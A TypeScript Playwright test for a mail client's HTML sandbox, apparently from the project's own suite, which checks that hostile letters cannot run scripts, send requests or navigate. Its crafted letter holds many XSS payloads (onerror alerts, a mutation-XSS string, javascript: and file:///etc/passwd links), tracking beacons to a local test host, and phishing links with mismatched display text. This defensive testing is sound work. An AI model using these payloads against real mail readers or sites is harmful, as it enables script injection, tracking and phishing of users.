import { createServer, type AddressInfo, type Server, type Socket } from 'node:net'
import type { Locator, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { practiceLetters } from '../../scripts/practice-office/letters/index.ts'
import { writeMail } from '../../scripts/practice-office/letters/write-mail.ts'
import { callFrom, ja, journeyPassphrase, newJourney, openLetter, picture, pulled, unlock } from '../support/program.ts'
import { eventually } from '../support/eventually.ts'

// A server that a hostile letter names in every way it knows, and that must never hear of it.
let server: Server
let port = 0
let connections = 0
beforeAll(async () => {
  server = createServer((socket: Socket) => {
    connections += 1
    socket.destroy()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  port = (server.address() as AddressInfo).port
})
afterAll(() => new Promise((resolve) => server.close(resolve)))

test('of hostile letters no script runs, no request leaves and nothing navigates; a link opens only after its true host was agreed to', async () => {
  const now = new Date()
  const crafted = craftedLetter(`http://127.0.0.1:${port}`, now)
  const letters = [...practiceLetters(now), { raw: crafted, date: now }]
  const journey = await newJourney({ letters })
  const program = await journey.start()
  const { page } = program
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await unlock(page, journeyPassphrase)
  await pulled(page, letters.length)
  const call = callFrom(page)
  const home = page.url()
  const pages = () =>
    page
      .context()
      .pages()
      .map((one) => one.url())

  // Every letter that has HTML is shown, the hostile one of the practice office and the crafted one among them.
  const shown: string[] = []
  for (const { id, subject } of (await call('letters.list', { view: 'all', limit: 500 })).rows) {
    if (!(await call('letters.get', { id })).hasHtml) continue
    await find(page, subject)
    const frame = page.frameLocator(`iframe[title="${ja.letters.htmlFrame}"][src*="${id}"]`).frameLocator('iframe')
    // Its own policy stands in the letter's document, and not in the empty one that a frame begins with.
    await frame.locator('meta[http-equiv="Content-Security-Policy"]').waitFor({ state: 'attached' })
    expect(
      await frame
        .locator('script, form, input, iframe, object, embed, video, audio, link, base, meta[http-equiv="refresh"]')
        .count(),
    ).toBe(0)
    shown.push(subject)
    await picture(page, `hostile-${shown.length}`)
  }
  expect(shown).toEqual(
    expect.arrayContaining(['Your free flight to Tokyo is waiting!', 'Everything a letter must not do']),
  )
  expect(shown.length).toBeGreaterThan(2)

  // However a link is clicked, the shell asks by its true host, once, and opens that very address; nothing navigates and no window stays.
  await find(page, 'Everything a letter must not do')
  const frame = page.frameLocator(`iframe[title="${ja.letters.htmlFrame}"]`).frameLocator('iframe')
  await frame.getByText(clicked[0][0]).waitFor()
  // The frame of the letter before goes a moment later, and a new one has no address at first.
  const letter = (await eventually(async () => {
    const holder = await (await page.$(`iframe[title="${ja.letters.htmlFrame}"]`))?.contentFrame()
    const inner = holder?.childFrames()[0]
    return inner?.url() ? inner : null
  }))!
  const address = letter.url()
  // The letter stands there in full, in a process of its own that the page cannot look into.
  const outer = page.locator(`iframe[title="${ja.letters.htmlFrame}"]`)
  const drawn = () => outer.evaluate((one) => (one as HTMLElement).offsetHeight)
  await expect.poll(drawn).toBe(await letter.evaluate(() => document.body.scrollHeight))
  const devTools = await page.context().newCDPSession(page)
  const { targetInfos } = await devTools.send('Target.getTargets')
  expect(targetInfos.filter(({ type }) => type === 'iframe').map(({ url }) => new URL(url).pathname)).toEqual([
    '/holder.html',
  ])
  expect(await outer.evaluate((one) => (one as HTMLIFrameElement).contentDocument)).toBeNull()
  const expected: string[] = []
  for (const [text, url, message] of clicked)
    for (const [, click] of ways) {
      await click(frame.getByText(text))
      expected.push(url)
      await eventually(program.opened, (opened) => opened.length >= expected.length)
      await eventually(pages, (open) => open.length === 1)
      expect(await program.opened()).toEqual(expected)
      const boxes = await program.asked()
      expect([boxes.length, plain(boxes.at(-1)!.message), letter.url()]).toEqual([expected.length, message, address])
    }
  expect(page.url()).toBe(home)
  await eventually(pages, (open) => open.length === 1)
  expect(dialogs).toEqual([])
  expect(connections).toBe(0)
  const reached = journey.requests.filter(
    (url) => url.includes(`:${port}`) || url.includes('pixel') || url.includes('lucky-travel'),
  )
  // The links' own navigations are the only ones that were tried, and they were stopped before they left.
  expect(reached.filter((url) => !clicked.some(([, link]) => url.startsWith(link)))).toEqual([])
  // The sandbox of the frame says that it lets no mail program be started.
  const stopped = [
    ...clicked.map(([, link]) => `request: ${link}`),
    'console: Navigation to external protocol blocked by sandbox',
  ]
  expect(journey.faults.filter((fault) => !stopped.some((start) => fault.startsWith(start)))).toEqual([])
})

/** The links of the crafted letter: what they say, where they lead, and what the shell asks. */
const clicked = [
  [
    'www.consulate.example/passport',
    'https://login.lucky-travel.example/passport',
    'ブラウザーで「login.lucky-travel.example」を開きますか。',
  ],
  [
    'www.consulate.example/visa',
    'http://visa.lucky-travel.example/form',
    'ブラウザーで「visa.lucky-travel.example」を開きますか。',
  ],
  [
    'consul@consulate.example',
    'mailto:claims@lucky-travel.example',
    'メールソフトで「claims@lucky-travel.example」宛てのメールを作りますか。',
  ],
] as const

/** Every way in which a link is opened that a browser knows. */
const ways = Object.entries({
  'a click': (link) => link.click(),
  'the middle button': (link) => link.click({ button: 'middle' }),
  'a click with Ctrl': (link) => link.click({ modifiers: ['Control'] }),
  'a click with Shift': (link) => link.click({ modifiers: ['Shift'] }),
  'a click with Ctrl and Shift': (link) => link.click({ modifiers: ['Control', 'Shift'] }),
  'the key Enter': (link) => link.press('Enter'),
} satisfies Record<string, (link: Locator) => Promise<void>>)

/** Without the marks that keep letters of another direction apart. */
const plain = (text: string) => text.replaceAll(/[\u2068\u2069]/gu, '')

/** Opens a letter by way of the search. */
async function find(page: Page, subject: string): Promise<void> {
  await page.keyboard.press('/')
  await page.keyboard.insertText(subject)
  await openLetter(page, subject)
}

/** A mail that tries to reach `host` in every way that HTML and CSS know. */
function craftedLetter(host: string, date: Date): Uint8Array {
  return writeMail({
    from: { name: 'Claims', address: 'claims@lucky-travel.example' },
    subject: 'Everything a letter must not do',
    date,
    messageId: `crafted.${date.getTime()}@lucky-travel.example`,
    text: 'The HTML part does it.',
    html: `<!doctype html><html manifest="${host}/m"><head><base href="${host}/"><meta http-equiv="refresh" content="0;url=${host}/refresh">
<link rel=stylesheet href="${host}/a.css">
<link rel=preconnect href="${host}"><link rel=dns-prefetch href="${host}">
<link rel=prefetch href="${host}/p"><link rel=icon href="${host}/icon">
<style>@import "${host}/i.css"; @font-face { font-family: far; src: url(${host}/f.woff) }
body { font-family: far; background: url('${host}/bg.png'); list-style: url(${host}/l.png); cursor: url(${host}/c.png), auto }
p::before { content: url(${host}/b.png) }
@media screen { a { background-image: image-set(url(${host}/s.png) 1x) } }</style>
<script src="${host}/s.js"></script>
<script>fetch('${host}/fetch'); new WebSocket('${host.replace('http', 'ws')}'); window.top.hit = 1; alert('crafted')</script></head>
<body onload="new Image().src='${host}/onload'" background="${host}/body.png" style="background:url(${host}/style.png)">
<p>Please confirm at <a href="https://login.lucky-travel.example/passport" ping="${host}/ping">www.consulate.example/passport</a>,
<a href="http://visa.lucky-travel.example/form" target="_blank">www.consulate.example/visa</a> or <a href="mailto:claims@lucky-travel.example?attach=/etc/passwd" target="_top">consul@consulate.example</a>.</p>
<img src="${host}/1.png" srcset="${host}/2.png 2x" lowsrc="${host}/3.png" onerror="alert(1)">
<picture><source srcset="${host}/4.png"><img src="${host}/5.png"></picture>
<input type=image src="${host}/6.png">
<table background="${host}/7.png"><tr><td background="${host}/8.png" style="background-image:url(&quot;${host}/9.png&quot;)">cell</td></tr></table>
<video src="${host}/v.mp4" poster="${host}/poster.png" autoplay></video><audio src="${host}/a.mp3" autoplay></audio><track src="${host}/t.vtt">
<iframe src="${host}/frame" srcdoc="<script>parent.hit=1</script><img src='${host}/srcdoc.png'>"></iframe>
<object data="${host}/o"></object><embed src="${host}/e"><applet code="${host}/x"></applet>
<svg xmlns="http://www.w3.org/2000/svg"><image href="${host}/svg.png"/><use href="${host}/u.svg#x"/><script>alert(2)</script>
<foreignObject><img src="${host}/fo.png"></foreignObject><a href="javascript:alert(3)"><text y=20>vector</text></a>
<animate attributeName=href to="${host}/anim"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(4)&gt;"></math>
<form action="${host}/form"><button formaction="${host}/button">Send</button></form>
<a href="javascript:alert(5)">run</a><a href="data:text/html,<script>alert(6)</script>">data</a><a href="file:///etc/passwd">file</a>
<noscript><p title="</noscript><img src=x onerror=alert(7)>"></noscript><template><img src="${host}/template.png"></template>
<img src="${host}/pixel.gif?id=kouhou" width=1 height=1></body></html>`,
  })
}
